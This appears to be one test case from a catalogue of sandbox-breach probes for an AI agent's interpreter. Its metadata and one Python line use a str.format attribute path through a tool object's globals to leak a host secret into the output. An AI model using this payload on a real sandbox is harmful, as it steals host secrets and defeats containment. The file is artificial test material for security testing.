# id: 501
# name: format_of_a_tool
# category: interpreter
# technique: str.format with an attribute path
# breach: hostmem
# looks_like: a host secret reaches the output
# uses: note_store tool
# baseline: inproc
print('{0.forward.__globals__[HOST_SECRET]}'.format(note_store))
